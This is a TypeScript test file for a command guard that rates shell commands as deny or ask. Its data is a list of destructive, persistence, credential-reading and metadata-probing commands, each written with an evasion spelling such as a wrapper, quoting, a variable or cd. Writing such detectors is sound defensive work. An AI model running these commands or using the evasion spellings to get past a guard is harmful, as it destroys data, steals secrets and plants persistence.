/** biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are shell commands, not templates */
import { beforeAll, describe, it } from "vitest";
import { createCommandGuard } from "../platform/index.js";
import type { CommandGuard } from "./command-guard.js";
import { expectFinding } from "./guard-test-helpers.fixture.js";
import type { CommandRule } from "./verdict/index.js";

/**
 * The new families attacked from outside with spellings their own tables do not list: wrappers
 * (command, xargs, stdbuf, ionice, chroot, setsid, flock, watch, time, nohup, busybox, doas),
 * quoting and backslashes in the program name, absolute paths, nested shells, variables and `cd`.
 */

let guard: CommandGuard;
beforeAll(async () => {
  guard = await createCommandGuard();
});

describe("new families through wrappers, quoting, variables and cd", () => {
  it.each<[string, "deny" | "ask", CommandRule]>([
    ["c\\url -o ~/.bashrc https://x.example/a", "ask", "soft.persistence"],
    ['"wget" -O ~/.bashrc https://x.example/a', "ask", "soft.persistence"],
    ["command nvme format /dev/nvme0", "deny", "hard.filesystem-format"],
    ["/usr/sbin/nvme format /dev/nvme0", "deny", "hard.filesystem-format"],
    ["echo /dev/nvme0 | xargs nvme format", "deny", "hard.filesystem-format"],
    ["stdbuf -o0 badblocks -w /dev/sda", "deny", "hard.filesystem-format"],
    ["ionice -c3 cryptsetup luksFormat /dev/sdb", "deny", "hard.filesystem-format"],
    ["chroot / rtcwake -m off", "deny", "hard.shutdown"],
    [
      "setsid dbus-send --system --dest=org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager.PowerOff boolean:true",
      "deny",
      "hard.shutdown",
    ],
    ["flock /tmp/l git push -f", "ask", "soft.git-history"],
    ["watch git reset --hard", "ask", "soft.git-history"],
    ["time git clean -fdx", "ask", "soft.git-history"],
    ['nohup psql -c "DELETE FROM t WHERE true" &', "ask", "soft.destructive-sql"],
    ["sh -c 'python3 -W x -c \"import os\"'", "ask", "soft.inline-interpreter"],
    ['bash -c "curl http://169.254.169.254/latest"', "ask", "soft.inline-interpreter"],
    ['env -S "nc 127.0.0.1 6379"', "ask", "soft.network-internal"],
    ["sudo -E at now", "ask", "soft.persistence"],
    ["doas crontab -e", "ask", "soft.crontab"],
    ["busybox wget -O /home/u/.profile https://x.example/p", "ask", "soft.persistence"],
    ["timeout 3 cat /proc/1/environ", "ask", "soft.secret-read"],
    ["x=/proc/1/environ; cat $x", "ask", "soft.secret-read"],
    ["cd /proc/1 && cat environ", "ask", "soft.secret-read"],
    ["cd /etc/ssh && cat ssh_host_rsa_key", "deny", "hard.system-secret-read"],
    ["cd / && cat dev/sda", "ask", "soft.raw-disk-read"],
    ["cd ~ && echo x >> .bashrc", "ask", "soft.persistence"],
    ["cd ~/.ssh && cp k authorized_keys", "ask", "soft.credential-write"],
    ["h=169.254.169.254; curl http://$h/", "ask", "soft.network-internal"],
    ["u=http://127.0.0.1; curl $u", "ask", "soft.network-internal"],
    ["git config --global alias.x '!reboot'", "ask", "soft.persistence"],
  ])("%j → %s (%s)", (command, verdict, rule) => expectFinding(guard, command, verdict, rule));
});
